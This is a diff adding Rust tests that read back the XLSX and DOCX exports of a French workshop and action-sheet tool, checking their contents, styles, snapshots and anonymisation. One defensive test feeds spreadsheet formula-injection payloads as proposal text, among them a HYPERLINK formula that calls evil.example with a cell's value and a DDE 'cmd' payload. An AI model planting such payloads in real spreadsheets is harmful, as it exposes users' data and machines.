@@ -1,0 +1,422 @@
+//! The workbook and the Word files, read back by independent readers:
+//! calamine for the workbook, zip + an XML parser for both.
+
+use super::tests::{example, files};
+use super::*;
+use crate::domain::Rgb;
+use crate::domain::apply;
+use crate::domain::sheet::{BudgetLine, Indicator};
+use calamine::{Data, DataType, Reader, Xlsx};
+use std::io::{Cursor, Read};
+
+fn rendered(w: &Workshop, format: Format, opts: &Options, name: &str) -> Vec<u8> {
+    render(w, format, opts)
+        .unwrap()
+        .into_iter()
+        .find(|f| f.path == Path::new(name))
+        .unwrap_or_else(|| panic!("{name} is exported"))
+        .bytes
+}
+
+fn workbook(w: &Workshop, opts: &Options) -> Xlsx<Cursor<Vec<u8>>> {
+    let bytes = rendered(w, Format::Xlsx, opts, workbook::file_name(opts.lang));
+    calamine::open_workbook_from_rs(Cursor::new(bytes)).expect("calamine opens the workbook")
+}
+
+/// One part of an office file, as text.
+fn part(bytes: &[u8], name: &str) -> String {
+    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
+    let mut xml = String::new();
+    zip.by_name(name)
+        .unwrap_or_else(|_| panic!("{name} in the file"))
+        .read_to_string(&mut xml)
+        .unwrap();
+    xml
+}
+
+/// What a cell of a table must read back as.
+fn expected(cell: &tables::Cell) -> Data {
+    use tables::Cell;
+    match cell {
+        Cell::Empty => Data::Empty,
+        Cell::Text(s) | Cell::Axis { label: s, .. } => {
+            Data::String(crate::domain::text::neutralise(s).into_owned())
+        }
+        Cell::Number(n) | Cell::Euros(n) => Data::Float(*n as f64),
+        Cell::Share(p) => Data::Float(*p as f64 / 1000.0),
+        Cell::Time(_) => unreachable!("compared as a date"),
+    }
+}
+
+#[test]
+fn every_table_is_a_typed_worksheet_after_a_summary() {
+    let w = example();
+    for opts in [Options::new(Lang::Fr), Options::new(Lang::En)] {
+        let mut book = workbook(&w, &opts);
+        let ctx = report::Ctx::new(&w, &opts);
+        let tables = tables::all(&ctx, &opts);
+        let mut names = vec![opts.lang.t("workbook.summary").to_string()];
+        names.extend(
+            tables
+                .iter()
+                .map(|t| opts.lang.t(&format!("workbook.{}", t.name)).to_string()),
+        );
+        assert_eq!(book.sheet_names(), names);
+        for table in &tables {
+            let name = opts.lang.t(&format!("workbook.{}", table.name));
+            let range = book.worksheet_range(name).unwrap();
+            assert_eq!(range.height(), table.rows.len() + 1, "{name}: every row");
+            let head: Vec<Data> = table.head.iter().map(|h| Data::String(h.clone())).collect();
+            assert_eq!(range.rows().next().unwrap(), &head[..], "{name}: header");
+            for (r, row) in table.rows.iter().enumerate() {
+                for (c, cell) in row.iter().enumerate() {
+                    let got = range.get((r + 1, c)).cloned().unwrap_or(Data::Empty);
+                    if let tables::Cell::Time(t) = cell {
+                        assert!(got.is_datetime(), "{name} {r}:{c} is a date: {got:?}");
+                        assert_eq!(got.as_datetime(), Some(*t), "{name} {r}:{c}");
+                    } else {
+                        assert_eq!(got, expected(cell), "{name} row {r} column {c}");
+                    }
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn the_workbook_shows_shares_as_percentages_with_frozen_filtered_headers_and_axis_colours() {
+    let w = example();
+    let bytes = rendered(&w, Format::Xlsx, &Options::new(Lang::Fr), "resultats.xlsx");
+    let styles = part(&bytes, "xl/styles.xml");
+    assert!(
+        styles.contains(r#"formatCode="0.0%""#),
+        "shares as percentages"
+    );
+    assert!(
+        styles.contains("formatCode=\"#,##0 &quot;€&quot;\""),
+        "euros"
+    );
+    assert!(
+        styles.contains(r#"formatCode="dd/mm/yyyy hh:mm:ss""#),
+        "French dates"
+    );
+    for axis in w.axes() {
+        let Rgb(r, g, b) = axis.color;
+        let argb = format!("FF{r:02X}{g:02X}{b:02X}");
+        assert!(styles.contains(&argb), "axis {} as a fill", axis.key);
+    }
+    // Sheet 2 is the proposals.
+    let sheet = part(&bytes, "xl/worksheets/sheet2.xml");
+    assert!(sheet.contains(r#"state="frozen""#) && sheet.contains(r#"ySplit="1""#));
+    assert!(
+        sheet.contains("<autoFilter ref=\"A1:"),
+        "a filter on the header"
+    );
+    assert!(sheet.contains("<col "), "column widths");
+    let mut book = workbook(&w, &Options::new(Lang::Fr));
+    let summary = book.worksheet_range("Synthèse").unwrap();
+    let cells: Vec<&Data> = summary.used_cells().map(|(_, _, d)| d).collect();
+    assert_eq!(cells[0], &Data::String(w.details().title.clone()));
+    assert!(
+        cells.iter().any(|d| d.is_datetime()),
+        "the workshop's date as a date"
+    );
+    let live = w.live_proposals().count() as f64;
+    let counted: f64 = summary
+        .rows()
+        .filter(|row| matches!(&row[0], Data::String(s) if s.starts_with(char::is_numeric) || s == "Sans axe"))
+        .filter_map(|row| row[1].as_f64())
+        .sum();
+    assert_eq!(counted, live, "proposals per axis add up");
+    assert!(
+        summary
+            .rows()
+            .filter(|row| row[0] == Data::String(w.rounds()[0].name.clone()))
+            .count()
+            == 1,
+        "participation per round"
+    );
+}
+
+#[test]
+fn formula_looking_text_stays_text_in_the_workbook() {
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"clic\")",
+        "+cmd|' /C calc'!A0",
+        "-30 % de non-recours",
+        "@SUM(1+1)",
+        "=1+1",
+    ];
+    let mut w = example();
+    let now = crate::domain::Stamp::from_ymd_hms(2024, 3, 14, 11, 0, 0).unwrap();
+    for text in formulas {
+        let op = w.op_add_proposal(text, vec![1], text, now).unwrap();
+        apply(&mut w, op).unwrap();
+    }
+    let opts = Options::new(Lang::Fr);
+    let mut book = workbook(&w, &opts);
+    let range = book.worksheet_range("Propositions").unwrap();
+    for text in formulas {
+        let rows: Vec<_> = range
+            .rows()
+            .filter(|row| row[1] == Data::String(text.to_string()))
+            .collect();
+        assert_eq!(rows.len(), 1, "{text} read back exactly, as text");
+        assert_eq!(rows[0][4], Data::String(text.to_string()), "its author too");
+    }
+    for name in book.sheet_names() {
+        let formulas = book.worksheet_formula(&name).unwrap();
+        assert!(
+            formulas.used_cells().next().is_none(),
+            "{name} has no formula"
+        );
+    }
+    let bytes = rendered(&w, Format::Xlsx, &opts, "resultats.xlsx");
+    assert!(!part(&bytes, "xl/worksheets/sheet2.xml").contains("<f>"));
+}
+
+/// The body of a Word file as lines a person can read: `[Style] text`
+/// for a paragraph (`**bold**`, `[!highlighted]`, `{fill:text}`), and a
+/// table as rows of `| cell | cell |`.
+fn docx_outline(bytes: &[u8]) -> String {
+    let xml = part(bytes, "word/document.xml");
+    let doc = roxmltree::Document::parse(&xml).expect("well-formed document.xml");
+    let body = doc
+        .descendants()
+        .find(|n| n.has_tag_name((W, "body")))
+        .unwrap();
+    let mut out = String::new();
+    for child in body.children().filter(|n| n.is_element()) {
+        match child.tag_name().name() {
+            "p" => {
+                out.push_str(&para(child));
+                out.push('\n');
+            }
+            "tbl" => {
+                for row in child.children().filter(|n| n.has_tag_name((W, "tr"))) {
+                    let cells: Vec<String> = row
+                        .children()
+                        .filter(|n| n.has_tag_name((W, "tc")))
+                        .map(|c| {
+                            c.children()
+                                .filter(|n| n.has_tag_name((W, "p")))
+                                .map(para)
+                                .collect::<Vec<_>>()
+                                .join(" ")
+                        })
+                        .collect();
+                    out.push_str(&format!("| {} |\n", cells.join(" | ")));
+                }
+            }
+            _ => {}
+        }
+    }
+    out
+}
+
+const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
+
+fn attr<'a>(node: roxmltree::Node<'a, '_>, path: &[&str]) -> Option<&'a str> {
+    let mut n = node;
+    for tag in path {
+        n = n.children().find(|c| c.has_tag_name((W, *tag)))?;
+    }
+    n.attribute((W, "fill")).or(n.attribute((W, "val")))
+}
+
+fn para(p: roxmltree::Node) -> String {
+    let mut line = String::new();
+    if let Some(style) = attr(p, &["pPr", "pStyle"]) {
+        line.push_str(&format!("[{style}] "));
+    }
+    if attr(p, &["pPr", "numPr", "ilvl"]).is_some() {
+        line.push_str("• ");
+    }
+    for run in p.children().filter(|n| n.has_tag_name((W, "r"))) {
+        let mut text = String::new();
+        for t in run.children() {
+            if t.has_tag_name((W, "t")) {
+                text.push_str(t.text().unwrap_or_default());
+            } else if t.has_tag_name((W, "br")) {
+                text.push('⏎');
+            }
+        }
+        let bold = run
+            .children()
+            .find(|c| c.has_tag_name((W, "rPr")))
+            .is_some_and(|r| r.children().any(|c| c.has_tag_name((W, "b"))));
+        if attr(run, &["rPr", "highlight"]).is_some() {
+            text = format!("[!{text}]");
+        } else if let Some(fill) = attr(run, &["rPr", "shd"]) {
+            text = format!("{{{fill}:{text}}}");
+        } else if bold && !text.trim().is_empty() {
+            text = format!("**{text}**");
+        }
+        line.push_str(&text);
+    }
+    line
+}
+
+#[test]
+fn golden_fiche_docx_and_workbook() {
+    let w = example();
+    let opts = Options::new(Lang::Fr);
+    let fiche = rendered(&w, Format::Docx, &opts, "fiches/FA-01.docx");
+    insta::assert_snapshot!("fiche_fa01_docx", docx_outline(&fiche));
+    let sparse = rendered(&w, Format::Docx, &opts, "fiches/FA-03.docx");
+    insta::assert_snapshot!("fiche_fa03_docx", docx_outline(&sparse));
+    let mut book = workbook(&w, &opts);
+    let mut dump = String::new();
+    for name in book.sheet_names() {
+        dump.push_str(&format!("== {name}\n"));
+        for row in book.worksheet_range(&name).unwrap().rows() {
+            let cells: Vec<String> = row
+                .iter()
+                .map(|d| match d {
+                    Data::Empty => String::new(),
+                    Data::String(s) => s.replace('\n', "⏎"),
+                    Data::Float(f) => format!("#{f}"),
+                    Data::DateTime(d) => format!("@{}", d.as_datetime().unwrap()),
+                    other => format!("?{other:?}"),
+                })
+                .collect();
+            dump.push_str(&cells.join(" | "));
+            dump.push('\n');
+        }
+    }
+    insta::assert_snapshot!("workbook_fr", dump);
+}
+
+#[test]
+fn every_field_of_a_sheet_is_in_its_word_file_and_the_empty_ones_are_marked() {
+    let mut w = example();
+    let sheet = &mut w.sheets_mut()[0];
+    sheet.budget = vec![
+        BudgetLine {
+            year: 2025,
+            funder: "État (BOP 304)".into(),
+            amount: 60_000,
+        },
+        BudgetLine {
+            year: 2025,
+            funder: "Département".into(),
+            amount: 40_000,
+        },
+        BudgetLine {
+            year: 2026,
+            funder: "État".into(),
+            amount: 30_000,
+        },
+        BudgetLine {
+            year: 2026,
+            funder: "CAF".into(),
+            amount: 30_000,
+        },
+    ];
+    sheet.indicateurs = vec![Indicator {
+        label: "Familles accompagnées".into(),
+        yearly: [(2025, "120".to_string()), (2026, "200".to_string())].into(),
+        ..Default::default()
+    }];
+    sheet.gouvernance.clear();
+    let s = w.sheets()[0].clone();
+    let bytes = rendered(
+        &w,
+        Format::Docx,
+        &Options::new(Lang::Fr),
+        "fiches/FA-01.docx",
+    );
+    // Thousands and units are set apart by no-break spaces.
+    let outline = docx_outline(&bytes).replace(['\u{a0}', '\u{202f}'], " ");
+    let lines: Vec<&str> = outline.lines().collect();
+    assert!(lines[0].starts_with("[Heading1] FA-01 — "), "{}", lines[0]);
+    // The title block: axis in its colour with its number, nature, pilot.
+    let axis = lines
+        .iter()
+        .find(|l| l.starts_with("| **Axe** | {56B4E9:"))
+        .expect("axis");
+    assert!(axis.contains("2 Emploi"), "{axis}");
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("| **Pilote** | ") && l.contains(&s.pilote.institution))
+    );
+    for text in [&s.title, &s.constat, &s.description, &s.evaluation] {
+        // A line break in a field is a line break in Word.
+        assert!(outline.contains(&text.replace('\n', "⏎")), "{text}");
+    }
+    for o in &s.objectifs {
+        assert!(outline.contains(&format!("• {o}")), "{o} as a bullet");
+    }
+    for p in &s.partenaires {
+        assert!(
+            lines
+                .iter()
+                .any(|l| l.starts_with(&format!("| {} |", p.name))),
+            "{}",
+            p.name
+        );
+    }
+    // The budget per year and overall, with the State's share and the flag.
+    assert!(
+        outline.contains("| 2025 | 100 000 € | 60 000 € | 60,0 % | oui |"),
+        "{outline}"
+    );
+    assert!(outline.contains("| 2026 | 60 000 € | 30 000 € | 50,0 % | non |"));
+    assert!(outline.contains("| Total | 160 000 € | 90 000 € | 56,2 % | oui |"));
+    assert!(outline.contains("**Attention : la part de l'État dépasse 50 %"));
+    // Indicators with a column per year.
+    assert!(outline.contains(
+        "| **Libellé** | **Type** | **Valeur de départ** | **Cible** | **2025** | **2026** |"
+    ));
+    assert!(outline.contains("| Familles accompagnées | réalisation |  |  | 120 | 200 |"));
+    // What is empty is visibly to complete, under its own heading.
+    let gov = lines
+        .iter()
+        .position(|l| *l == "[Heading2] Gouvernance")
+        .unwrap();
+    assert_eq!(lines[gov + 1], "[![à compléter]]");
+}
+
+#[test]
+fn the_report_as_a_word_file_has_every_proposal_and_the_office_files_never_change() {
+    let w = example();
+    let opts = Options::new(Lang::Fr);
+    let report = rendered(&w, Format::Docx, &opts, "rapport.docx");
+    let outline = docx_outline(&report);
+    for p in w.live_proposals() {
+        assert!(outline.contains(&p.text), "n° {} in the report", p.id);
+    }
+    assert!(outline.contains("[Heading1] "), "real heading styles");
+    assert_eq!(
+        render(&w, Format::Docx, &opts).unwrap().len(),
+        1 + w.sheets().len()
+    );
+    // Pure: the same workshop, the same bytes (no clock in the files).
+    for format in [Format::Xlsx, Format::Docx] {
+        let a = render(&w, format, &opts).unwrap();
+        let b = render(&w, format, &opts).unwrap();
+        assert!(
+            a.iter().zip(&b).all(|(x, y)| x.bytes == y.bytes),
+            "{format:?}"
+        );
+    }
+}
+
+#[test]
+fn anonymous_office_files_name_nobody_and_english_names_its_files() {
+    let w = example();
+    let opts = Options {
+        anonymous: true,
+        ..Options::new(Lang::Fr)
+    };
+    let f = files(&w, Format::All, &opts);
+    assert!(f["resultats.xlsx"].contains("V1"), "voters numbered");
+    for p in w.participants() {
+        for name in ["resultats.xlsx", "rapport.docx", "fiches/FA-01.docx"] {
+            assert!(!f[name].contains(&p.name), "{name} names {}", p.name);
+        }
+    }
+    let en = files(&w, Format::All, &Options::new(Lang::En));
+    assert!(en.contains_key("results.xlsx") && en.contains_key("report.docx"));
+}
